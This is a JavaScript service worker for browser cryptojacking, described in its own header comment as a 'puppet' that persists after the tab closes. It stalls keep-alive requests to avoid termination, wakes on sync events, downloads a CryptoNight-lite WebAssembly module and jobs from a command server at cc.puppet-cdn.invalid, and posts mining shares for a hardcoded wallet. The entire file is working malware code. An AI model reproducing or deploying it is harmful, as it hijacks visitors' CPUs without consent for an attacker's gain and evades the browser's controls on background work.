// The puppet's service worker: it takes control at once, answers the frame's keep-alive requests
// slowly so the browser does not stop it, wakes again on background sync, and runs a hashing
// module on jobs fetched from its command server, posting the shares back; it keeps running
// after the tab that started it is closed.
var server = "https://cc.puppet-cdn.invalid/api/", mod = null, job = null, threads = 1, busy = false;
self.addEventListener("install", function () { self.skipWaiting(); });
self.addEventListener("activate", function (e) { e.waitUntil(self.clients.claim().then(boot)); });
self.addEventListener("sync", function (e) { e.waitUntil(boot()); });
self.addEventListener("periodicsync", function (e) { e.waitUntil(boot()); });
self.addEventListener("message", function (e) {
  if (e.data && e.data.cmd === "start") { threads = e.data.threads || 1; boot(); }
});
self.addEventListener("fetch", function (e) {
  if (e.request.url.indexOf("/sync/keepalive") === -1) return;
  e.respondWith(new Promise(function (done) {
    setTimeout(function () { done(new Response("", { status: 204 })); }, 25000);
  }));
});
function boot() {
  if (mod) return Promise.resolve();
  return WebAssembly.instantiateStreaming(fetch(server + "wasm/cn-lite.wasm"), { env: { abort: function () {} } })
    .then(function (o) { mod = o.instance.exports; return nextJob(); });
}
function nextJob() {
  return fetch(server + "job?w=45wPuppetWallet9Xq&t=" + threads).then(function (r) { return r.json(); })
    .then(function (j) { job = j; if (!busy) work(); });
}
function work() {
  if (!job) return;
  busy = true;
  var blob = new Uint8Array(job.blob.match(/../g).map(function (h) { return parseInt(h, 16); }));
  new Uint8Array(mod.memory.buffer, mod.input(), blob.length).set(blob);
  for (var n = job.start; n < job.start + 20000 * threads; n++) {
    var r = mod.cn_hash(blob.length, n);
    if (r < job.target) {
      fetch(server + "share", { method: "POST", body: JSON.stringify({ job_id: job.job_id, nonce: n.toString(16), result: r.toString(16) }) });
    }
  }
  job.start += 20000 * threads;
  busy = false;
  setTimeout(job.start > job.end ? nextJob : work, 10);
}
